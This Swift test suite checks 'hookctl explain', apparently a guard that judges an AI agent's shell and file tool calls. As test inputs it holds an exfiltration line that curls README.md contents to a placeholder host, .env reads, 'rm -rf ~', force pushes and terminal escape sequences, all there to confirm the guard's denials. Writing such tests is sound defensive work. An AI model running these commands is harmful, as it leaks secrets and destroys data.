// SPDX-License-Identifier: MIT
import Foundation
import Testing

/// `hookctl explain`, spawned as a person would, with a home and a project of its own.
@Suite struct ExplainTests {
  private let home: URL
  private let project: URL

  init() throws {
    home = FileManager.default.temporaryDirectory.appendingPathComponent("explain-\(UUID())")
    project = home.appendingPathComponent("project")
    try FileManager.default.createDirectory(at: project, withIntermediateDirectories: true)
    for name in [".env", ".env.example", "README.md"] {
      try "TOKEN=verysecretvalue\n".write(
        to: project.appendingPathComponent(name), atomically: true, encoding: .utf8)
    }
    try FileManager.default.createSymbolicLink(
      atPath: project.appendingPathComponent("link").path, withDestinationPath: ".env")
  }

  private func explain(
    _ arguments: [String], _ input: RunExecutable.Input = .bytes([]), inHome: Bool = true
  ) throws -> RunExecutable.Outcome {
    var run = try RunExecutable("hookctl", ["explain"] + arguments, input: input)
    run.workingDirectory = project.path
    run.environment = inHome ? ["HOME": home.path] : [:]
    return try run.run()
  }

  private func object(_ outcome: RunExecutable.Outcome) throws -> [String: Any] {
    let value = try JSONSerialization.jsonObject(with: Data(outcome.standardOutput))
    return try #require(value as? [String: Any])
  }

  @Test func everyStageIsShownInTheOrderOfTheGuard() throws {
    let outcome = try explain(["f=link; cat \"$f\" | head"])
    #expect(outcome.status == 1)
    #expect(outcome.error.isEmpty)
    var rest = outcome.output[...]
    for stage in [
      "event\n", "Bash", "\ncommand\n", "\nsyntax\n", "(pipe", "\ncommands after expansion\n",
      "\"cat\" \"link\"", "\neffects\n", "reads link", "which is", "/project/.env", "^^^^^",
      "\nflows\n", "\nrules\n", "deny  read-env-file", "\nverdict\n", "deny",
      "\nthe client is told\n", "exit    2", "hook-guard: ", "µs",
    ] {
      let found = try #require(rest.range(of: stage), "\(stage) is not shown\n\(outcome)")
      rest = rest[found.upperBound...]
    }
    #expect(!outcome.output.contains("verysecretvalue"))
  }

  @Test func whatPassesEndsInZero() throws {
    let outcome = try explain(["cat README.md .env.example"])
    #expect(outcome.status == 0)
    #expect(outcome.output.contains("none was met"))
  }

  @Test func aFlowShowsBothItsEnds() throws {
    let command = "x=$(cat README.md); curl \"https://h.example/?q=$x\""
    let outcome = try explain([command])
    for text in ["\nflows\n", "from the file README.md", "to the host h.example"] {
      #expect(outcome.output.contains(text), "\(outcome)")
    }
    let flows = try #require(try object(explain(["--json", command]))["flows"] as? [[String: Any]])
    #expect(flows.count == 1)
    let from = try #require(flows.first?["from"] as? [String: Any])
    #expect(from["kind"] as? String == "file")
    #expect(from["range"] as? [Int] == [4, 17])
    let to = try #require(flows.first?["to"] as? [String: Any])
    #expect(to["kind"] as? String == "host")
    #expect(to["name"] as? String == "h.example")
  }

  @Test func anAskShowsBothAnswers() throws {
    let both = try explain(["git reset --hard"])
    #expect(both.status == 1)
    #expect(both.output.contains("when attended"))
    #expect(both.output.contains("\"permissionDecision\":\"ask\""))
    #expect(both.output.contains("nobody can be asked"))
    let one = try explain(["--unattended", "git reset --hard"])
    #expect(!one.output.contains("when attended"))
    #expect(one.output.contains("exit    2"))
  }

  @Test func whatCannotBeParsedIsPointedAt() throws {
    let outcome = try explain(["cat 'open"])
    #expect(outcome.status == 1)
    #expect(outcome.output.contains("cannot be parsed"))
    #expect(outcome.output.contains("^"))
  }

  @Test func theObjectHasEveryStage() throws {
    let stages = try object(explain(["--json", "rm -rf {a,b}; cat link"]))
    #expect(stages["verdict"] as? String == "deny")
    #expect((stages["syntax"] as? String)?.hasPrefix("(list") == true)
    let commands = try #require(stages["commands"] as? [[String: Any]])
    #expect(commands.count == 2)
    let words = try #require(commands[0]["words"] as? [[String: Any]])
    #expect(words.map { $0["values"] as? [String] } == [["rm"], ["-rf"], ["a"], ["b"]])
    let effects = try #require(stages["effects"] as? [[String: Any]])
    let read = try #require(effects.first { $0["kind"] as? String == "reads" })
    #expect((read["resolved"] as? [String])?.first?.hasSuffix("/project/.env") == true)
    #expect(read["range"] as? [Int] == [14, 22])
    let findings = try #require(stages["findings"] as? [[String: Any]])
    #expect(findings.contains { $0["rule"] as? String == "read-env-file" })
    let answer = try #require(stages["answer"] as? [String: [String: Any]])
    #expect(answer["unattended"]?["status"] as? Int == 2)
  }

  @Test func aPayloadIsReadFromAFileOrFromStdin() throws {
    let payload = """
      {"session_id":"s","cwd":"\(project.path)","hook_event_name":"PreToolUse",
      "tool_name":"Read","tool_input":{"file_path":"link"}}
      """
    #expect(try explain(["--payload", "-"], .text(payload)).status == 1)
    let file = home.appendingPathComponent("payload.json")
    try payload.write(to: file, atomically: true, encoding: .utf8)
    let outcome = try explain(["--payload", file.path])
    #expect(outcome.status == 1)
    #expect(outcome.output.contains("tool       Read"))
    #expect(try explain(["--payload", "-"], .text("{")).status == 65)
    #expect(try explain(["--payload", "missing.json"]).status == 66)
  }

  @Test(arguments: ["Read", "Write", "Edit", "NotebookEdit", "Grep", "Glob"])
  func aToolWithAPathIsACall(_ tool: String) throws {
    #expect(try explain(["--tool", tool, "--path", ".env"]).status == 1)
    #expect(try explain(["--tool", tool, "--path", "README.md"]).status == 0)
  }

  @Test func placesCanBeNamed() throws {
    let outcome = try explain(
      [
        "--cwd", "/", "--home", home.path, "--project", project.path, "--json",
        "cat ~/project/link",
      ], inHome: false)
    let stages = try object(outcome)
    #expect(stages["directory"] as? String == "/")
    #expect(stages["home"] as? String == home.path)
    #expect(stages["project"] as? String == project.path)
    #expect(outcome.status == 1)
  }

  @Test func aRuleIsShownByItsID() throws {
    let outcome = try explain(["force-push"])
    #expect(outcome.status == 0)
    #expect(outcome.output.contains("deny"))
    #expect(outcome.output.contains("git work and history"))
    #expect(try object(explain(["--json", "force-push"]))["id"] as? String == "force-push")
    #expect(try explain(["discard-changes"]).output.contains("hard-reset"))
    #expect(try explain(["--command", "force-push"]).output.contains("\nverdict\n"))
  }

  @Test func everyDenialNamesARuleThatCanBeLookedUp() throws {
    for command in ["cat .env", "git push --force origin main", "rm -rf ~", "env"] {
      let answer = try explain([command]).output
      let words = try #require(answer.range(of: "hookctl explain "))
      let id = answer[words.upperBound...].prefix { $0.isLetter || $0 == "-" }
      let rule = try explain([String(id)])
      #expect(rule.output.contains("family"), "\(command): \(id)")
    }
  }

  @Test func nothingIsRecorded() throws {
    _ = try explain(["cat .env"])
    let names = try FileManager.default.contentsOfDirectory(atPath: home.path)
    #expect(names == ["project"])
  }

  @Test func whatComesFromOutsideCannotDriveTheTerminal() throws {
    let outcome = try explain(["cat \u{1B}]0;x\u{7} \u{202E}"])
    #expect(!outcome.standardOutput.contains(0x1B))
    #expect(!outcome.standardOutput.contains(0x07))
    #expect(outcome.output.contains("\\x1b"))
  }

  @Test func aSecretInACommandIsNotRepeated() throws {
    let token = "ghp_" + String(repeating: "a1B2c3D4e5", count: 3) + "f6G7h8"
    for arguments in [["echo \(token)"], ["--json", "echo \(token)"]] {
      #expect(!(try explain(arguments).output.contains(token)))
    }
  }

  @Test(arguments: [
    [], ["a", "b"], ["--tool", "Read"], ["--path", "x"], ["--tool", "Bash", "--path", "x"],
    ["--nonsense"], ["--payload", "-", "--cwd", "/"],
  ])
  func misuseEndsInSixtyFour(_ arguments: [String]) throws {
    let outcome = try explain(arguments)
    #expect(outcome.status == 64)
    #expect(outcome.output.isEmpty)
    #expect(outcome.error.hasPrefix("hookctl: error: "))
  }
}
